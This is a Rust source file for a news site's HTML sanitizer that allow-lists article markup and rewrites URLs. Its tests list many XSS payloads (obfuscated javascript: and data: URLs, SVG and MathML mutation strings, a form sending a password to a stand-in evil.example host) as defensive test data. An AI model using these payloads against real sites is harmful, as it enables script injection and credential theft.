//! Article bodies are HTML, sanitized on write to an allow-list fit for news copy: paragraphs,
//! headings, lists, links, emphasis, quotes, figures and images. Scripts, styles, iframes,
//! event handlers and `javascript:` URLs never reach the database.
//!
//! URLs (`href`, `src`, `cite`) are `http`, `https` or `mailto`, or relative. A protocol-relative
//! one (`//host/path`) is rewritten to `https://host/path`: linking off-site is normal in news
//! copy, but the scheme should not depend on the page that embeds the body.

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::LazyLock;

use ammonia::url::{ParseError, Url};

/// The schemes a URL in a body may have; anything else (`javascript:`, `data:`, ...) is removed.
const URL_SCHEMES: [&str; 3] = ["http", "https", "mailto"];

static BODY_CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let tags: HashSet<&str> = [
        "p",
        "br",
        "hr",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "a",
        "em",
        "strong",
        "b",
        "i",
        "u",
        "s",
        "sub",
        "sup",
        "small",
        "mark",
        "abbr",
        "cite",
        "q",
        "blockquote",
        "code",
        "pre",
        "figure",
        "figcaption",
        "img",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "caption",
    ]
    .into_iter()
    .collect();
    let mut builder = ammonia::Builder::default();
    builder
        .tags(tags)
        .generic_attributes(HashSet::new())
        .tag_attributes(
            [
                ("a", ["href", "title"].into_iter().collect::<HashSet<_>>()),
                (
                    "img",
                    ["src", "alt", "title", "width", "height", "data-media-id"]
                        .into_iter()
                        .collect(),
                ),
                ("blockquote", ["cite"].into_iter().collect()),
                ("q", ["cite"].into_iter().collect()),
                ("abbr", ["title"].into_iter().collect()),
                ("th", ["scope", "colspan", "rowspan"].into_iter().collect()),
                ("td", ["colspan", "rowspan"].into_iter().collect()),
            ]
            .into_iter()
            .collect(),
        )
        .url_schemes(URL_SCHEMES.into_iter().collect())
        .url_relative(ammonia::UrlRelative::Custom(Box::new(relative_url)))
        .attribute_filter(filter_attribute)
        .link_rel(Some("noopener noreferrer"));
    builder
});

/// A relative `href` or `src` as browsers will read it, or `None` to drop it. Browsers drop tabs
/// and newlines, trim leading spaces and controls, and take `\` for `/`; what they read is what
/// is checked.
fn relative_url(url: &str) -> Option<Cow<'_, str>> {
    let read: String = url
        .trim_start_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .map(|c| if c == '\\' { '/' } else { c })
        .collect();
    if let Some(rest) = read.strip_prefix("//") {
        // Protocol-relative: another host. Made explicit https, dropped if there is no host.
        let absolute = format!("https://{rest}");
        let has_host = Url::parse(&absolute).is_ok_and(|u| u.host().is_some());
        return has_host.then_some(Cow::Owned(absolute));
    }
    // A colon in the first segment reads as a scheme to some parsers (RFC 3986 4.2 forbids it in
    // a relative reference), so such a URL is not left for them to guess at.
    let first_segment = read.split(['/', '?', '#']).next().unwrap_or_default();
    if first_segment.contains(':') {
        return None;
    }
    Some(Cow::Borrowed(url))
}

/// Attributes ammonia does not treat as URLs but readers may follow: `cite` gets the same rules.
fn filter_attribute<'a>(element: &str, attribute: &str, value: &'a str) -> Option<Cow<'a, str>> {
    match (element, attribute) {
        // A library item's id, or nothing.
        ("img", "data-media-id") => {
            (!value.is_empty() && value.len() <= 18 && value.bytes().all(|b| b.is_ascii_digit()))
                .then_some(Cow::Borrowed(value))
        }
        ("blockquote" | "q", "cite") => match Url::parse(value) {
            Ok(url) if URL_SCHEMES.contains(&url.scheme()) => Some(Cow::Borrowed(value)),
            Err(ParseError::RelativeUrlWithoutBase) => relative_url(value),
            _ => None,
        },
        _ => Some(Cow::Borrowed(value)),
    }
}

/// An `<img>` of a (sanitized) body: the library item it names, or where it points.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BodyImage {
    Library(i64),
    Foreign(String),
}

/// The images of a sanitized body, in order.
pub fn body_images(html: &str) -> Vec<BodyImage> {
    let mut found = Vec::new();
    let settings = lol_html::RewriteStrSettings {
        element_content_handlers: vec![lol_html::element!("img", |el| {
            let library = el.get_attribute("data-media-id").and_then(|id| id.parse().ok());
            found.push(match library {
                Some(id) => BodyImage::Library(id),
                None => BodyImage::Foreign(el.get_attribute("src").unwrap_or_default()),
            });
            Ok(())
        })],
        ..lol_html::RewriteStrSettings::new()
    };
    // A sanitized body is well-formed HTML: the rewriter does not fail on it.
    let _ = lol_html::rewrite_str(html, settings);
    found
}

/// What an `<img>` naming a library item is given.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LibraryImage {
    pub src: String,
    /// `url 320w, url 640w, ...`
    pub srcset: String,
    pub width: u32,
    pub height: u32,
    /// The item's alt text, used when the `<img>` has none of its own.
    pub alt: String,
}

/// `html` with every `<img data-media-id>` of `images` given its `src`, `srcset`, `sizes`,
/// `width`, `height` and (unless it has its own) `alt`.
pub fn fill_library_images(html: &str, images: &std::collections::HashMap<i64, LibraryImage>) -> String {
    let settings = lol_html::RewriteStrSettings {
        element_content_handlers: vec![lol_html::element!("img[data-media-id]", |el| {
            let id = el
                .get_attribute("data-media-id")
                .and_then(|id| id.parse::<i64>().ok());
            if let Some(image) = id.and_then(|id| images.get(&id)) {
                el.set_attribute("src", &image.src)?;
                if !image.srcset.is_empty() {
                    el.set_attribute("srcset", &image.srcset)?;
                    el.set_attribute("sizes", "(max-width: 800px) 100vw, 800px")?;
                }
                el.set_attribute("width", &image.width.to_string())?;
                el.set_attribute("height", &image.height.to_string())?;
                if el.get_attribute("alt").is_none_or(|alt| alt.trim().is_empty()) {
                    el.set_attribute("alt", &image.alt)?;
                }
            }
            Ok(())
        })],
        ..lol_html::RewriteStrSettings::new()
    };
    lol_html::rewrite_str(html, settings).unwrap_or_else(|_| html.to_owned())
}

/// The body with everything outside the allow-list removed.
pub fn sanitize_body(html: &str) -> String {
    BODY_CLEANER.clean(html).to_string()
}

/// What full-text search indexes for an article, folded ([`fold`]): the headline column (the
/// headline and the alternative headline), ranked above the body column (the summary and the
/// body without its markup: tags become spaces, common entities their characters).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SearchText {
    pub headline: String,
    pub body: String,
}

/// The text full-text search indexes for an article.
pub fn search_text(
    headline: &str,
    alternative: Option<&str>,
    summary: Option<&str>,
    body_html: &str,
) -> SearchText {
    let headline = format!("{headline} {}", alternative.unwrap_or(""));
    let body = format!("{} {}", summary.unwrap_or(""), plain_text(body_html));
    SearchText {
        headline: fold(headline.trim_end()),
        body: fold(body.trim_start()),
    }
}

/// The text of a body: tags become spaces, common entities their characters.
pub fn plain_text(body_html: &str) -> String {
    let mut text = String::with_capacity(body_html.len());
    let mut in_tag = false;
    for c in body_html.chars() {
        match (in_tag, c) {
            (false, '<') => in_tag = true,
            (true, '>') => {
                in_tag = false;
                text.push(' ');
            }
            (false, c) => text.push(c),
            (true, _) => {}
        }
    }
    for (entity, plain) in [
        ("&amp;", "&"),
        ("&lt;", "<"),
        ("&gt;", ">"),
        ("&quot;", "\""),
        ("&#39;", "'"),
        ("&nbsp;", " "),
    ] {
        if text.contains(entity) {
            text = text.replace(entity, plain);
        }
    }
    text
}

/// How many words a body's text has: runs between spaces that hold a letter or a digit (a lone
/// dash or bullet is no word).
pub fn word_count(body_html: &str) -> i32 {
    let words = plain_text(body_html)
        .split_whitespace()
        .filter(|w| w.chars().any(char::is_alphanumeric))
        .count();
    i32::try_from(words).unwrap_or(i32::MAX)
}

/// Minutes a reader needs for `words` at 230 words a minute, rounded up; at least one.
pub fn reading_minutes(words: i32) -> i32 {
    ((words.max(0) + 229) / 230).max(1)
}

/// Lowercase ASCII ("Zürich" -> "zurich"): stored text and searched words are folded alike, so
/// both backends ignore case and accents the same way.
pub fn fold(text: &str) -> String {
    deunicode::deunicode(text).to_lowercase()
}

/// Escapes text for use inside an HTML element.
pub fn escape_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            _ => out.push(c),
        }
    }
    out
}

/// Paragraphs of plain text as an HTML body.
pub fn paragraphs_to_html(paragraphs: &[String]) -> String {
    paragraphs
        .iter()
        .map(|p| format!("<p>{}</p>", escape_text(p.trim())))
        .collect::<Vec<_>>()
        .join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_are_counted_in_the_text_not_the_markup() {
        assert_eq!(
            word_count("<p>Pakistan and <em>Iran</em> agree.</p><p>- &amp; 2024</p>"),
            5
        );
        assert_eq!(word_count(""), 0);
        assert_eq!(reading_minutes(0), 1);
        assert_eq!(reading_minutes(230), 1);
        assert_eq!(reading_minutes(231), 2);
    }

    #[test]
    fn hostile_markup_is_removed() {
        let dirty = r#"<p onclick="x()">Hi<script>alert(1)</script></p><a href="javascript:alert(1)">x</a><img src=x onerror="alert(1)"><iframe src="https://e.vil"></iframe><p style="color:red">s</p>"#;
        let clean = sanitize_body(dirty);
        for bad in ["script", "onclick", "javascript:", "onerror", "iframe", "style"] {
            assert!(!clean.contains(bad), "{bad} survived in {clean}");
        }
        assert!(clean.contains("<p>Hi</p>"));
    }

    /// Fails when the cleaned `dirty` still holds something a browser would run, load or send.
    #[track_caller]
    fn assert_inert(dirty: &str) -> String {
        let clean = sanitize_body(dirty);
        let lower = clean.to_ascii_lowercase();
        for live in [
            "javascript",
            "vbscript",
            "data:",
            "<script",
            "<svg",
            "<math",
            "<form",
            "<input",
            "<button",
            "<style",
            "style=",
            "onload",
            "onerror",
            "onclick",
            "onbegin",
            "action=",
            "xlink",
            "href=\"//",
            "src=\"//",
            "href=\"/\\",
            "expression(",
            "url(",
        ] {
            assert!(!lower.contains(live), "`{live}` survived {dirty:?} as {clean:?}");
        }
        clean
    }

    #[test]
    fn script_urls_are_removed_however_they_are_spelled() {
        for dirty in [
            r#"<a href="JaVaScRiPt:alert(1)">a</a>"#,
            r#"<a href="javascript&#58;alert(1)">a</a>"#,
            r#"<a href="javascript&colon;alert(1)">a</a>"#,
            r#"<a href="&#106;&#x61;vascript:alert(1)">a</a>"#,
            r#"<a href="java&#9;script:alert(1)">a</a>"#,
            "<a href=\"java\nscript:alert(1)\">a</a>",
            r#"<a href="  javascript:alert(1)">a</a>"#,
            r#"<a href="&#0;javascript:alert(1)">a</a>"#,
            r#"<img src="JAVASCRIPT:alert(1)" alt="a">"#,
            r#"<a href="vbscript:msgbox(1)">a</a>"#,
            r#"<img src="VBScript:msgbox(1)" alt="a">"#,
            r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>"#,
            r#"<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="a">"#,
            r#"<blockquote cite="javascript:alert(1)">q</blockquote>"#,
            r#"<q cite="data:text/html,x">q</q>"#,
        ] {
            assert_inert(dirty);
        }
        assert_eq!(
            assert_inert(r#"<a href="JaVaScRiPt:alert(1)">a</a>"#),
            r#"<a rel="noopener noreferrer">a</a>"#
        );
    }

    #[test]
    fn svg_math_and_forms_are_removed() {
        for dirty in [
            r#"<svg onload="alert(1)"><circle r="1"></circle></svg>"#,
            r#"<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>"#,
            r#"<svg><animate attributeName="href" values="javascript:alert(1)"></animate></svg>"#,
            r#"<svg><set attributeName="onmouseover" to="alert(1)"></set></svg>"#,
            r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"#,
            r#"<math href="javascript:alert(1)">m</math>"#,
            r#"<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>"#,
            r#"<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>"#,
            r#"<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>"#,
            r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"#,
        ] {
            assert_inert(dirty);
        }
    }

    #[test]
    fn css_never_survives() {
        for dirty in [
            r#"<p style="background:url(javascript:alert(1))">p</p>"#,
            r#"<p style="width:expression(alert(1))">p</p>"#,
            r#"<a href="https://example.com" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>"#,
            r#"<style>p { background: url(https://evil.example/track.gif) }</style><p>p</p>"#,
            r#"<link rel="stylesheet" href="https://evil.example/x.css"><p>p</p>"#,
        ] {
            assert_inert(dirty);
        }
    }

    #[test]
    fn protocol_relative_urls_become_explicit_https() {
        for (dirty, href) in [
            (r#"<a href="//evil.example/x">a</a>"#, "https://evil.example/x"),
            (r#"<a href="/\evil.example/x">a</a>"#, "https://evil.example/x"),
            (r#"<a href="\\evil.example/x">a</a>"#, "https://evil.example/x"),
            (
                r#"<a href="/&#9;/evil.example/x">a</a>"#,
                "https://evil.example/x",
            ),
            (r#"<a href=" //evil.example">a</a>"#, "https://evil.example"),
        ] {
            let clean = assert_inert(dirty);
            assert!(
                clean.contains(&format!(r#"href="{href}""#)),
                "{dirty:?} -> {clean}"
            );
        }
        let clean = assert_inert(r#"<img src="//cdn.example/a.jpg" alt="a">"#);
        assert!(clean.contains(r#"src="https://cdn.example/a.jpg""#), "{clean}");
        // Links within the site stay as they are.
        let clean = sanitize_body(
            r##"<a href="/sections/world">w</a><a href="page#top">p</a><a href="#notes">n</a>"##,
        );
        for href in ["/sections/world", "page#top", "#notes"] {
            assert!(clean.contains(&format!(r#"href="{href}""#)), "{clean}");
        }
    }

    #[test]
    fn search_text_drops_markup() {
        let text = search_text("Head", None, Some("Sum"), "<p>Body &amp; <em>more</em></p>");
        assert_eq!(text.headline, "head");
        assert_eq!(
            text.body.split_whitespace().collect::<Vec<_>>(),
            ["sum", "body", "&", "more"]
        );
        assert_eq!(fold("Zürich CAFÉ"), "zurich cafe");
    }

    #[test]
    fn news_markup_survives() {
        let html = r#"<h2>Title</h2><p><a href="https://example.com">link</a> <em>e</em></p><blockquote>q</blockquote><figure><img src="https://example.com/a.jpg" alt="a"><figcaption>c</figcaption></figure>"#;
        let clean = sanitize_body(html);
        assert!(clean.contains("<h2>Title</h2>"));
        assert!(clean.contains(r#"href="https://example.com""#));
        assert!(clean.contains("<figcaption>c</figcaption>"));
        assert!(clean.contains(r#"alt="a""#));
    }
}
